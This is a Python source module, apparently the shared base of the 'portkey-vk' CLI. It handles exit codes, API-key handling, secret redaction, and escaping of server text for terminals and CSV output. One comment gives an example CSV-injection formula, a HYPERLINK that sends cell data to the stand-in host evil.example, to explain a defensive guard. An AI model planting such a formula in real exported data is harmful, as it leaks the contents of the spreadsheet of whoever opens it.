"""What every ``portkey-vk`` command group shares: exit codes, errors, escaping, the client.

The ground floor of :mod:`portkey_vk.cli`: it imports no command module, and every command
module imports from it.
"""

from __future__ import annotations

import argparse
import os
import sys
import time
import unicodedata
from collections.abc import Callable, Sequence
from datetime import datetime
from typing import Any, Final, TextIO

import attrs

from portkey_vk._config import API_KEY_ENV, BASE_URL_ENV, DEFAULT_TIMEOUT, redact
from portkey_vk._errors import (
    APIConnectionError,
    AuthenticationError,
    NotFoundError,
    PermissionDeniedError,
    PortkeyError,
)
from portkey_vk._sync import Portkey

EXIT_OK: Final = 0
EXIT_API_ERROR: Final = 1
EXIT_USAGE: Final = 2
EXIT_AUTH: Final = 3
EXIT_NOT_FOUND: Final = 4
EXIT_CONNECTION: Final = 5
EXIT_INTERRUPTED: Final = 130

EXIT_CODES: Final = {
    EXIT_OK: "success",
    EXIT_API_ERROR: "any other API error (e.g. 429, 5xx after retries, an invalid response)",
    EXIT_USAGE: "usage error: bad arguments, an invalid base URL or slug, or a delete that was "
    "not confirmed",
    EXIT_AUTH: f"authentication: no API key (set {API_KEY_ENV}), or it was refused (401/403)",
    EXIT_NOT_FOUND: "no virtual key has this slug (404)",
    EXIT_CONNECTION: "the control plane could not be reached, or timed out",
    EXIT_INTERRUPTED: "interrupted (Ctrl-C)",
}
"""Every exit code ``portkey-vk`` uses, and what it means."""

PROG: Final = "portkey-vk"
PROVIDER_KEY_ENV: Final = "PORTKEY_PROVIDER_KEY"
"""Where ``portkey-vk create`` reads the provider's key when ``--key-stdin`` is not given."""
_PROGRESS_INTERVAL: Final = 0.1
# Unicode categories a terminal must never receive raw from a server: controls (C0, DEL, C1, so
# ESC and CSI sequences that retitle or clear the terminal), format characters (bidi overrides
# and isolates that reorder what is shown, zero-width and tag characters that hide text),
# surrogates, and line/paragraph separators.
_UNSAFE_CATEGORIES: Final = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
# Format characters that scripts and emoji need to render at all, and cannot reorder text.
_JOINERS: Final = frozenset({"\u200c", "\u200d"})
# An error is one line; a server's message could otherwise be megabytes.
_MAX_ERROR_CHARS: Final = 1000


class UsageError(Exception):
    """Bad input caught before any request, reported with the usage exit code."""


class NoKeyError(Exception):
    """No API key anywhere, reported with the authentication exit code."""


@attrs.define
class Run:
    """What a command's handler gets besides its arguments: its streams and the secrets to hide.

    A handler that reads a secret (a provider key from stdin) appends it to ``secrets`` so that
    no error line can echo it.
    """

    out: TextIO
    stdin: TextIO
    secrets: list[str]


Handler = Callable[[argparse.Namespace, Run], int]
"""A command: ``args.run(args, run) -> exit code``; errors are raised, and reported by ``main``."""


def add_connection_options(parser: argparse.ArgumentParser) -> None:
    """The options every command that talks to the control plane takes."""
    parser.add_argument(
        "--api-key",
        metavar="KEY",
        help=f"Portkey API key (default: ${API_KEY_ENV}; prefer the variable, as arguments "
        "show up in process lists and shell history)",
    )
    parser.add_argument(
        "--base-url",
        metavar="URL",
        help=f"the control plane's API root (default: ${BASE_URL_ENV}, then Portkey's cloud)",
    )
    parser.add_argument(
        "--timeout",
        metavar="S",
        type=float,
        default=DEFAULT_TIMEOUT,
        help="seconds each attempt may take (default: %(default)s)",
    )


def client(args: argparse.Namespace, *, workspace_id: str | None = None) -> Portkey:
    """The sync client the connection options describe; a bad option is a usage error."""
    key = args.api_key if args.api_key is not None else os.environ.get(API_KEY_ENV, "")
    if not key.strip():
        raise NoKeyError(f"no Portkey API key: set {API_KEY_ENV} or pass --api-key")
    try:
        return Portkey(
            api_key=args.api_key,
            base_url=args.base_url,
            timeout=args.timeout,
            workspace_id=workspace_id,
        )
    except (PortkeyError, TypeError, ValueError) as exc:
        raise UsageError(str(exc)) from exc


def usage_checked(call: Callable[[], Any]) -> Any:
    """Run ``call``; an argument the SDK refuses before any request is a usage error."""
    try:
        return call()
    except (TypeError, ValueError) as exc:
        raise UsageError(str(exc)) from exc


# -- text from the server, made safe for where it goes --------------------------------------------


def _escape(ch: str) -> str:
    code = ord(ch)
    if code <= 0xFF:
        return f"\\x{code:02x}"
    if code <= 0xFFFF:
        return f"\\u{code:04x}"
    return f"\\U{code:08x}"


def for_terminal(text: str, out: TextIO | None = None) -> str:
    """``text`` with every character unsafe for a terminal written as a Python-style escape.

    Also escapes what the stream's encoding cannot write (an emoji to an ASCII console), which
    would otherwise end the program with a UnicodeEncodeError.
    """
    if not text.isprintable():  # one C-level pass for the usual, harmless text
        text = "".join(
            _escape(ch)
            if unicodedata.category(ch) in _UNSAFE_CATEGORIES and ch not in _JOINERS
            else ch
            for ch in text
        )
    encoding = getattr(out, "encoding", None)
    if encoding:
        text = text.encode(encoding, "backslashreplace").decode(encoding)
    return text


def printable(value: object) -> str:
    r"""``value`` as text safe for a terminal: control and format characters escaped.

    A name or slug comes from the server; an ESC, a carriage return or a bidirectional override
    in it could rewrite what the user sees, so each is shown as its Python escape (``\x1b``).
    """
    return for_terminal(str(value))


# A spreadsheet reads a cell starting with one of these as a formula: a server-chosen name such
# as `=HYPERLINK("https://evil.example/?"&A1, "open")` would run in whoever opens the CSV.
_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def for_spreadsheet(text: str) -> str:
    """A CSV cell that a spreadsheet shows as text, never evaluates (OWASP's CSV injection rule).

    A leading apostrophe is what spreadsheets themselves use to mark a cell as text; only cells
    that would start a formula get one (every column of the CSV is text: no number loses a sign).
    """
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def csv_cell(out: TextIO) -> Callable[[str], str]:
    """How a CSV cell is written to ``out``: the server's text, as the csv module quotes it.

    Only the formula guard changes it, and only what ``out``'s encoding cannot write (a lone
    surrogate) is escaped. On a terminal, where no program reads it back, it is escaped as the
    human table is, as ``ls`` escapes names only on a terminal.
    """
    if is_terminal(out):
        return lambda text: for_spreadsheet(for_terminal(text, out))
    encoding = getattr(out, "encoding", None)
    if not encoding:
        return for_spreadsheet
    return lambda text: for_spreadsheet(text.encode(encoding, "backslashreplace").decode(encoding))


def is_terminal(stream: TextIO) -> bool:
    """Whether ``stream`` is a terminal (a closed or fake stream is not)."""
    try:
        return stream.isatty()
    except (AttributeError, ValueError, OSError):
        return False


class Progress:
    """``loading virtual keys: 150/5000`` on stderr, rewritten in place; only on a terminal."""

    def __init__(self, stream: TextIO, total: int | None) -> None:
        self._stream = stream
        self._total = total
        self._shown = False
        self._next = time.monotonic() + _PROGRESS_INTERVAL

    @classmethod
    def on_terminal(cls, stream: TextIO, total: int | None) -> Progress | None:
        """A progress line on ``stream`` if it is a terminal, else ``None``."""
        return cls(stream, total) if is_terminal(stream) else None

    def update(self, count: int) -> None:
        """Show ``count`` if the last update is old enough."""
        now = time.monotonic()
        if now < self._next:
            return
        self._next = now + _PROGRESS_INTERVAL
        of = "" if self._total is None else f"/{self._total}"
        self._stream.write(f"\rloading virtual keys: {count}{of}")
        self._stream.flush()
        self._shown = True

    def done(self) -> None:
        """Erase the progress line, if one was shown."""
        if self._shown:
            self._stream.write("\r\x1b[K")
            self._stream.flush()


def table(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    """Aligned columns, two spaces apart; cells must already be safe for a terminal."""
    widths = [max(len(h), *(len(row[i]) for row in rows)) for i, h in enumerate(headers)]
    lines = ["  ".join(h.ljust(w) for h, w in zip(headers, widths, strict=True)).rstrip()]
    lines += [
        "  ".join(c.ljust(w) for c, w in zip(row, widths, strict=True)).rstrip() for row in rows
    ]
    return "\n".join(lines) + "\n"


# -- errors ----------------------------------------------------------------------------------------


def exit_code(exc: PortkeyError) -> int:
    """The exit code of an API error (see :data:`EXIT_CODES`)."""
    if isinstance(exc, AuthenticationError | PermissionDeniedError):
        return EXIT_AUTH
    if isinstance(exc, NotFoundError):
        return EXIT_NOT_FOUND
    if isinstance(exc, APIConnectionError):
        return EXIT_CONNECTION
    return EXIT_API_ERROR


def error(message: str, secrets: Sequence[str]) -> None:
    """Print ``message`` as one line on stderr, every secret redacted, escaped and bounded."""
    # Error messages carry the server's text (Portkey's message, a snippet of an HTML page).
    for secret in secrets:
        message = redact(message, secret)
    line = for_terminal(" ".join(message.split()), sys.stderr)
    if len(line) > _MAX_ERROR_CHARS:
        line = line[:_MAX_ERROR_CHARS] + "..."
    print(f"{PROG}: {line}", file=sys.stderr)


def plain_text(value: object) -> str | None:
    """``value`` as text for a table cell (a time in ISO 8601); ``None`` stays ``None``."""
    if value is None:
        return None
    if isinstance(value, datetime):
        return value.isoformat()
    return str(value)


def table_or_dash(headers: Sequence[str], rows: Sequence[Sequence[object]]) -> str:
    """:func:`table` of server values: each escaped for a terminal, a missing one shown as ``-``."""
    return table(headers, [[printable(c) if c is not None else "-" for c in row] for row in rows])
